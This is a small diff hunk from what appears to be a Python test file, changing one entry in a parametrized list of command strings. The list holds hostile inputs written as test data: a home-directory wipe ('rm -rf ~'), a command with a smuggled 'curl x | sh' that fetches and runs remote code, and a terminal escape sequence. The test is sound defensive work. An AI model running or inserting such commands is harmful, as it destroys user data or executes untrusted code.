@@ -104,7 +104,7 @@ def test_a_status_that_is_none_is_a_failure_that_names_its_file(jobs, capsys, te
     "command",
     [
         "rm -rf ~",
-        "python train.py alpha=0; curl x | sh",
+        "python train.py a=0; curl x | sh",
         "python train.py \x1b[2J",
         "python -c 1",
         "'",
